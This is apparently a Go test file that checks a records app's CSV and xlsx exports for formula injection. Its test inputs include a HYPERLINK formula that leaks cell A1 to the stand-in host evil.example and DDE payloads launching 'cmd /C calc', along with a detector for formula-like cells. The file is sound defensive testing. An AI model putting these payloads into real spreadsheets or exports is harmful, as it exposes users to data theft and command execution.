package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"stationsync/internal/records"
)

// TestCSVExportEscapesFormulas: text that a station typed cannot become a
// formula in the county's CSV export, including after a tab, a carriage
// return or white space (issue 13 item 6); the xlsx export keeps it as
// typed text.
func TestCSVExportEscapesFormulas(t *testing.T) {
	f := newFixture(t)
	titles := []string{
		"\t=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "\r=1+1", "  =1+1", "\u3000@SUM(1+1)",
		"-2+3+cmd|' /C calc'!A0", "+1+1", "=1+1", "＝1+1", "\t普通标题",
	}
	for i, title := range titles {
		if _, err := f.store.CountyCreate(context.Background(), villA, records.Disclosure, records.Fields{
			"category": records.JSONText("村务公开"), "title": records.JSONText(title), "body": records.JSONText("正文"),
			"reviewer": records.JSONText([]string{"=cmd|' /C calc'!A0", "陈德明"}[i%2]), "status": records.JSONText("draft"),
		}, "test"); err != nil {
			t.Fatal(err)
		}
	}
	c := f.login("county")
	r := c.get("/export/disclosure.csv")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if formulaLike(cell) {
				t.Errorf("CSV cell %q would be read as a formula", cell)
			}
			seen[strings.TrimPrefix(cell, "'")] = true
		}
	}
	for _, title := range titles {
		if !seen[title] {
			t.Errorf("title %q is not in the CSV export (apostrophe aside)", title)
		}
	}

	x := c.get("/export/disclosure.xlsx")
	xf, err := excelize.OpenReader(bytes.NewReader([]byte(x.body)))
	if err != nil {
		t.Fatal(err)
	}
	sheet := xf.GetSheetName(0)
	xrows, _ := xf.GetRows(sheet)
	got := map[string]bool{}
	for i, row := range xrows {
		for j, cell := range row {
			name, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fo, _ := xf.GetCellFormula(sheet, name); fo != "" {
				t.Errorf("xlsx cell %s holds the formula %q", name, fo)
			}
			got[cell] = true
		}
	}
	for _, title := range titles {
		if !got[title] {
			t.Errorf("xlsx export lacks the title %q as typed", title)
		}
	}
}

// formulaLike is how a spreadsheet decides that a CSV cell is a formula:
// = + - @ first, also after white space, or a leading tab or CR. A plain
// negative number is a number.
func formulaLike(cell string) bool {
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
		return true
	}
	t := strings.TrimLeft(cell, " \u3000\u00a0\n")
	if t == "" {
		return false
	}
	return strings.ContainsAny(t[:1], "=+-@") || strings.HasPrefix(t, "＝")
}
